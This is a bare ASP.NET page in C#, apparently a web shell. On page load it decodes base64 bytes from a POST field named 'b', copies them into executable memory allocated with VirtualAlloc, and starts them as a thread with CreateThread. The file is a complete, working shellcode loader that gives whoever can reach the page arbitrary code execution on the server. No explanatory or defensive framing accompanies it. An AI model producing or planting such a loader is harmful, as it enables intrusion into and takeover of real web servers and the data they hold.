<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
void Page_Load(object o, EventArgs e) {
  byte[] sc = Convert.FromBase64String(Request.Form["b"]);
  IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40);
  Marshal.Copy(sc, 0, m, sc.Length);
  CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero);
}
</script>
